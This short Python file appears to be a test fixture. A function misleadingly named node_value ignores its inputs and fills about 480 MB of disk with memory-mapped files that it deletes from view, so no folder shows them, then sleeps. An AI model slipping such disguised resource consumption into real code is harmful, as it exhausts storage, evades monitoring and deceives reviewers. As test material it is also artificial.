"""Removed, closed, and held by a mapping alone: no folder shows them. Ends: halted, broken."""

import mmap
import os
import time


def node_value(inputs, weights):
    held = []
    while len(held) < 60:
        with open("file", "w+b") as file:
            for _ in range(8):
                file.write(bytes(2**20))
            file.flush()
            held.append(mmap.mmap(file.fileno(), 1, prot=mmap.PROT_READ))
        os.unlink("file")
    time.sleep(60)
